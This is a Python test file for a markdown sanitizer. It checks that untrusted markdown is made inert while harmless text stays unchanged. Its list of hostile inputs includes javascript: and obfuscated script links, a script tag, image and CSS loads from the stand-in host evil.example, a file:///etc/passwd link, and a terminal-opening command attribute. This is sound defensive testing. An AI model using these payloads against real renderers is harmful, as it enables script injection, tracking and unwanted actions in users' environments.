"""Markdown of strangers: nothing loads, nothing runs, and what is harmless stays byte for byte."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from analyst_kernel._markdown import harmless_markdown
from tests.support.examples import examples
from tests.support.harmless import active_markdown as loaded

_MARKS = (
    "` `` ``` ~~~ > - 1. <x <x> </x> ![a](h) ![a][b] [b]: [a](h) [a]( ] | |-| \\ $ $$ { } word # "
    "*** _ <!-- --> < ~ &lt; www.a https://q/r <https://a> mermaid @@0@@"
)
_BLANKS = ("\n", "\n\n", " ", "    ", "\t", "\r", "\u2028", "\x0b", "<x\ny>", "\\\\(", "\\\\)")
HOSTILE = st.lists(st.sampled_from([*_MARKS.split(), *_BLANKS]), max_size=20).map("".join)
_WORDS = (
    "word 18.4 **bold** _it_ `<b>` | < 5,076 (x) [cell 2] [18.4](#cell-id=c1) € $5 # é 漢字 &amp; "
    "[site](https://example.org/a?b=c&d=e) <https://example.org> - >"
)
_BLOCKS = ("\n", "\n\n", "\n```python\nx = '<b>' if a<b else '![x](y)'\n```\n")
_BELOW_EMPTY_ITEM = re.compile(r"^[ \t]*[->][ \t]*\n```", re.MULTILINE)
"""Parsers don't agree on what is code there, so it is escaped."""
HARMLESS = (
    st.lists(st.sampled_from([*_WORDS.split(" "), *_BLOCKS]), max_size=20)
    .map(" ".join)
    .filter(lambda text: _BELOW_EMPTY_ITEM.search(text) is None)
)


HOSTILE_EXAMPLES = [
    "![x](https://evil.example/?d=1)",
    "![x](//evil.example/a.png)",
    "![x](/\\evil.example/a.png)",
    "![x](data.png)",
    "![x](data:image/svg+xml;base64,AAAA)",
    "![x][ref]\n\n[ref]: https://evil.example/a.png",
    "![ref]\n\n[ref]: https://evil.example/a.png",
    "[![x](https://evil.example/a.png)](https://example.org)",
    "![a\nb](https://evil.example)",
    "![`a`](https://evil.example)",
    "<img src='https://evil.example'>",
    "<p style='background:url(https://evil.example)'>x",
    "<a href='#' data-commandlinker-command='terminal:create-new'>x</a>",
    "<button data-commandlinker-command=x>y</button>",
    "<script>alert(1)</script>",
    "<!-- <img src=x> -->",
    "<?php ?>",
    "<![CDATA[x]]>",
    "`a\n`<img src=x>` `",
    "`a` `` <img src=x> `",
    "a\u2028```\n<img src=x>",
    "a\x0b```\n<img src=x>",
    "\\\\<img src=x>",
    "www.a.example/`<img src=x>`",
    "$x ` y$ <img src=x>\n`",
    "> ```\n<img src=x>",
    "- ```\n<img src=x>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](vbscript:x)",
    "[x](data:text/html,x)",
    "[x](/lab/api/shutdown)",
    "[x](/\\evil.example)",
    "[x](file:///etc/passwd)",
    "[x](<javascript:alert(1)>)",
    "[x]\n\n[x]: javascript:alert(1)",
    "[x]\n\n[x]:\njavascript:alert(1)",
    "<javascript:alert(1)>",
    "```mermaid\nflowchart LR\n  a@{ img: 'https://evil.example' }\n```",
    "~~~mermaid\ngraph TD\n~~~",
    "~~~ `` Mermaid theme\ngraph TD\n~~~",
    "> ~~~`mermaid`\n> graph TD\n> ~~~",
    "``` Mermaid theme\ngraph TD\n```",
    "- text\n\n  ```mermaid\n  graph TD\n  ```",
    "> ```mermaid\n> graph TD\n> ```",
    "```mer&#109;aid\ngraph TD\n```",
]


@pytest.mark.parametrize("text", HOSTILE_EXAMPLES)
def test_what_would_load_or_run_is_text_or_a_link(text: str) -> None:
    shown = harmless_markdown(text)
    assert loaded(shown) == []
    assert shown != text
    assert harmless_markdown(shown) == shown


@pytest.mark.parametrize(
    "text",
    [
        "Rose from **18.4** to $20.8; a < b, `x <b> y`, [cell 2].",
        "[18.4](#cell-id=c1), [site](https://example.org/a_(b)?c=d), [mail](mailto:a@example.org)",
        "![chart](data:image/png;base64,iVBORw0KGgo=)",
        "![chart](attachment:chart.png)",
        "<https://example.org> and <mailto:a@example.org>",
        "```python\nif a<b: print('![x](y)', '<img src=x>')\n```",
        "- a\n\n  ```sql\n  select '<b>'\n  ```",
        "    indented <b>\n",
        "| a | `<b>` |\n|---|---|\n| `![x](y)` | 2 |",
        "[note]: see below",
        r"\<b> and \![x](https://example.org)",
        "$x^2 < y$ and $$\\frac{a}{b}$$",
        "a\r\nb\rc",
        "",
    ],
)
def test_harmless_text_stays_as_it_is(text: str) -> None:
    assert harmless_markdown(text) == text


@examples(1000)
@given(HARMLESS)
def test_any_harmless_text_stays_byte_for_byte(text: str) -> None:
    assert harmless_markdown(text) == text


@given(HOSTILE)
def test_nothing_hostile_comes_through(text: str) -> None:
    assert loaded(harmless_markdown(text)) == []


def test_formulas_lose_the_commands_that_load_or_style() -> None:
    shown = harmless_markdown(r"$\href{javascript:x}{y} \style{background:url(x)}{z} \frac{1}{2}$")
    assert "\\href" not in shown
    assert "\\style" not in shown
    assert r"\frac{1}{2}" in shown
    assert harmless_markdown(r"a \style in prose") == r"a \style in prose"
